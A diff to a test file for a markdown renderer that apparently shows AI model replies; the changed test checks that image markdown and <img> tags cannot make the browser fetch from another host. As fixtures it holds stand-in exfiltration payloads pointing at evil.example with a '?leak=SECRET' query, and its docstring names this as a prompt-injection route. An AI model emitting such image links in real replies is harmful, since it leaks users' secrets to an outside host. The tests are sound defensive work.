@@ -14,9 +14,10 @@ def test_html_in_a_reply_is_neutralised():
 
 def test_a_reply_cannot_make_the_browser_fetch_from_another_host():
     """A prompt injection's way out: ![x](https://evil.example/?leak=SECRET) would load at once."""
-    html = render_markdown('![chart](https://evil.example/c.png?leak=SECRET) and <img src="https://evil.example/x">')
+    html = render_markdown('![chart](https://evil.example/c.png?leak=SECRET) and <img src="https://evil.example/x"> too')
     assert "<img" not in html
-    assert '<a href="https://evil.example/c.png?leak=SECRET"' in html and "🖼 chart" in html
+    assert '<a href="https://evil.example/c.png?leak=SECRET"' in html and "🖼 chart</a> and" in html
+    assert html.rstrip().endswith("too</p>")  # the text around an image is kept
 
 
 def test_links_open_apart_with_no_opener_or_referrer():
